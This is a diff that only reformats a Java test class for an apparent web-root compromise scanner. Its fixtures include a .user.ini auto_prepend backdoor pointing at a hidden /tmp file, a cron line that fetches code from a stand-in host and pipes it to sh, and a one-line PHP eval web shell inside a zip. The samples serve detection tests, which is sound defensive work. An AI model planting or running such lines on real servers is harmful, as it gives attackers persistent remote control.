@@ -49,12 +49,16 @@ class WebRootTest {
     write("b/.user.ini", "auto_prepend_file = '/tmp/.x.ico'\n");
     write("c/.user.ini", "auto_prepend_file = '/var/www/wordfence-waf.php'\n");
 
-    assertThat(search().artifacts()).extracting(Artifact::kind).containsExactly("backdoor-config", "backdoor-config");
+    assertThat(search().artifacts())
+        .extracting(Artifact::kind)
+        .containsExactly("backdoor-config", "backdoor-config");
   }
 
   @Test
   void aJobThatFetchesAndRunsIsTold() throws Exception {
-    write("var/spool/cron/www-data", "*/5 * * * * curl -s http://x.invalid/a | sh\n0 3 * * * php bin/cron.php\n");
+    write(
+        "var/spool/cron/www-data",
+        "*/5 * * * * curl -s http://x.invalid/a | sh\n0 3 * * * php bin/cron.php\n");
 
     assertThat(search().artifacts()).extracting(Artifact::kind).containsExactly("cron-job");
   }
@@ -78,7 +82,9 @@ class WebRootTest {
   }
 
   private static String md5(String text) throws Exception {
-    byte[] digest = java.security.MessageDigest.getInstance("MD5").digest(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+    byte[] digest =
+        java.security.MessageDigest.getInstance("MD5")
+            .digest(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
     return java.util.HexFormat.of().formatHex(digest);
   }
 
@@ -89,13 +95,16 @@ class WebRootTest {
       write(store + "/wp-includes/load.php", store.equals("c") ? "<?php $a = 2;" : "<?php $a = 1;");
     }
 
-    assertThat(search().artifacts()).singleElement().satisfies(artifact -> assertThat(artifact.where()).contains("/c/"));
+    assertThat(search().artifacts())
+        .singleElement()
+        .satisfies(artifact -> assertThat(artifact.where()).contains("/c/"));
   }
 
   @Test
   void filesInAZipAreSearched() throws Exception {
     Path zip = root.resolve("backup.zip");
-    try (OutputStream out = Files.newOutputStream(zip); ZipOutputStream entries = new ZipOutputStream(out)) {
+    try (OutputStream out = Files.newOutputStream(zip);
+        ZipOutputStream entries = new ZipOutputStream(out)) {
       entries.putNextEntry(new ZipEntry("html/x.php"));
       entries.write("<?php eval($_POST['x']);".getBytes(java.nio.charset.StandardCharsets.UTF_8));
     }
